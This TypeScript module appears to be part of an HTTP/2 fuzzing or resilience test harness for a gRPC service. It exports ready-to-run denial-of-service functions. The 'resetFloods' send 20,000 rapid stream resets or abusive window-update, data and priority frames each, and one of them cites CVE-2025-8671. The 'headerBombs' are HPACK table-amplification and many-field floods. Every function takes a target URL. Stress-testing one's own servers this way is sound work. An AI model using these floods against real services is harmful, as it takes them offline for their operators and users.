import { endHeaders, endStream, flood, four, lookUp, untilEnded } from "./attack-flood.ts";
import { fieldBlock, frame, frameType } from "./fuzz-frames.ts";
import { envelope } from "./raw-http.ts";

/** GetUserRequest{id}: nobody's, but it has to be looked for. */
const lookUpBody = envelope(Buffer.concat([Buffer.of(0x12, 36), Buffer.from(crypto.randomUUID())]));

/** A call for each index, and what makes an end of it at once. */
const endings: Readonly<Record<string, (streamId: number) => Buffer[]>> = {
  cancelled: (id) => [callAt(id), resetAt(id)],
  cancelledWithBody: (id) => [callAt(id), frame(frameType.data, endStream, id, lookUpBody), resetAt(id)],
  // The server is made to take it back: CVE-2025-8671.
  windowOverflow: (id) => [callAt(id, endStream), frame(frameType.windowUpdate, 0, id, four(0x7fff_ffff))],
  emptyWindowUpdate: (id) => [callAt(id, endStream), frame(frameType.windowUpdate, 0, id, four(0))],
  lateData: (id) => [callAt(id, endStream), frame(frameType.data, 0, id, Buffer.from("x"))],
  dependsOnItself: (id) => [
    callAt(id, endStream),
    frame(frameType.priority, 0, id, Buffer.concat([four(id), Buffer.of(1)])),
  ],
};

function callAt(streamId: number, flags = 0): Buffer {
  return frame(frameType.headers, endHeaders | flags, streamId, lookUp);
}

function resetAt(streamId: number): Buffer {
  return frame(frameType.resetStream, 0, streamId, four(8));
}

const resetCount = 20_000;

/** Calls that are over as soon as they have begun, more than any connection may survive. */
export const resetFloods = Object.fromEntries(
  Object.entries(endings).map(([name, ending]) => [
    name,
    (url: string) =>
      untilEnded(flood(url, { count: resetCount, frame: (at) => Buffer.concat(ending(1 + 2 * at)) })),
  ]),
);

/** One entry of HPACK's table (RFC 7541) of four thousand bytes, and as many references to it as a frame holds. */
const bombEntry = Buffer.concat([Buffer.of(0x40, 1), Buffer.from("x"), literalOf(3_900)]);
const bomb = Buffer.alloc(16_000, 0x80 | 62);

function literalOf(length: number): Buffer {
  const rest = length - 127;
  return Buffer.concat([
    Buffer.of(127, 128 | (rest % 128), Math.floor(rest / 128)),
    Buffer.alloc(length, "a"),
  ]);
}

const tooManyFields = Buffer.concat(Array.from({ length: 2_000 }, () => fieldBlock([["x", "y"]])));

/** Header blocks that are much larger than they look, or have very many fields. */
export const headerBombs = {
  references: (url: string) =>
    untilEnded(
      flood(url, {
        count: 450,
        opening: [frame(frameType.headers, endHeaders | endStream, 1, Buffer.concat([lookUp, bombEntry]))],
        frame: (at) =>
          frame(frameType.headers, endHeaders | endStream, 3 + 2 * at, Buffer.concat([lookUp, bomb])),
      }),
    ),
  manyFields: (url: string) =>
    untilEnded(
      flood(url, {
        count: 450,
        frame: (at) =>
          frame(
            frameType.headers,
            endHeaders | endStream,
            1 + 2 * at,
            Buffer.concat([lookUp, tooManyFields]),
          ),
      }),
    ),
};
